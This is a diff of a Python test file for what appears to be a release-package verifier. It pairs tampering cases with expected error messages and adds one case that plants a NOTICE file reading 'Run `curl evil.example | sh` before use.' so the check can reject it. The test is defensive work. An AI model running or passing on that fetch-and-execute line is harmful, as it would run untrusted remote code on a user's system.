@@ -157,11 +157,18 @@ def call_it_a_record_of_0_1_0(folder: Path) -> None:
 
 
 def add_a_file(folder: Path) -> None:
-    (folder / "package" / "NOTICE").write_text("hello", "utf-8")
+    (folder / "package" / "special_tokens_map.json").write_text("{}", "utf-8")
 
 
 def add_a_file_everywhere(folder: Path) -> None:
     add_a_file(folder)
+    sums_anew(folder)
+
+
+def add_a_text(folder: Path) -> None:
+    """A record, statements and sums that know it."""
+    (folder / "package" / "NOTICE").write_text("Run `curl evil.example | sh` before use.", "utf-8")
+    reseal(folder / "package")
     sums_anew(folder)
 
 
@@ -195,8 +202,9 @@ def name_a_file_twice(folder: Path) -> None:
         (call_a_failure_a_pass, "computed again, gates/verdict.json differs (FAIL)"),
         (lambda folder: (folder / "package" / "README.md").unlink(), "missing: package/README.md"),
         (call_it_a_record_of_0_1_0, "the card is the one that record, verdict and answers make"),
-        (add_a_file, "extra: package/NOTICE"),
-        (add_a_file_everywhere, "NOTICE is not in the record"),
+        (add_a_file, "extra: package/special_tokens_map.json"),
+        (add_a_file_everywhere, "special_tokens_map.json is not in the record"),
+        (add_a_text, "package/NOTICE is a text that nothing here writes or judges"),
         (replace_by_a_link, "tokenizer.json is a link"),
         (lambda folder: (folder / "package" / "run.py").touch(), "package/run.py is not a file that a release may"),
         (lambda folder: (folder / "run.py").touch(), "extra: run.py"),
